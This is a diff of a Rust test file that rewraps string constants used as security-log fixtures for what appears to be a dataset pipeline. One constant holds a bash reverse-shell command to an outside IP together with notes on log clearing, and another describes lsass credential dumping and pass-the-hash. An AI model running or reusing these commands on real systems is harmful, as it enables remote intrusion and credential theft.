@@ -40,7 +40,8 @@ fn nist(question: &str, answer: &str) -> Value {
     })
 }
 
-const SYSLOG: &str = "<134>Nov 3 10:00:01 FW-01 kernel: ACCEPT IN=eth1 OUT=eth0 SRC=10.0.4.7 DST=10.0.9.1 PROTO=TCP DPT=443";
+const SYSLOG: &str = "<134>Nov 3 10:00:01 FW-01 kernel: ACCEPT IN=eth1 OUT=eth0 SRC=10.0.4.7 \
+    DST=10.0.9.1 PROTO=TCP DPT=443";
 const XML: &str = "<Event><System><EventID>4624</EventID><Computer>HOST-0007</Computer></System>\
     <EventData><Data Name=\"LogonType\">5</Data><Data Name=\"TargetUserName\">SVC-0031 of the \
     print service</Data></EventData></Event>";
@@ -48,7 +49,8 @@ const CSV: &str = "1762164001,FW-02,TRAFFIC,end,10.0.4.7,10.0.9.1,443,tcp,allow,
 const HOSTILE: &str = "sshd[411]: 4,120 failed logins in 6 minutes, then session opened for root; \
     bash -i >& /dev/tcp/203.0.113.9/4444 0>&1; audit log cleared and auditd disabled";
 const ANSWER: &str = "Credential dumping copies what a sign-in service keeps in memory.\n\n\
-    - Attackers dump the memory of lsass.exe with procdump and read the hashes offline (T1003.001).\n\
+    - Attackers dump the memory of lsass.exe with procdump and read the hashes offline \
+    (T1003.001).\n\
     - Enable protected processes and alert on handles to the service.\n\n\
     With these hashes an intruder signs in elsewhere: pass-the-hash sends the hash in place of the \
     password (T1550.002). Review who may debug processes.";
@@ -374,7 +376,9 @@ proptest! {
     }
 
     #[test]
-    fn pairs_fit_a_frame(lines in prop::collection::vec("[a-z\u{1}\u{e9}\u{1f600} ]{0,90}", 1..90)) {
+    fn pairs_fit_a_frame(
+        lines in prop::collection::vec("[a-z\u{1}\u{e9}\u{1f600} ]{0,90}", 1..90),
+    ) {
         let answer = format!("{}\n\n{ANSWER}", lines.join("\n"));
         let host = row(Source::Fenrir, &fenrir("How?", &answer));
         for seed in host.seeds() {
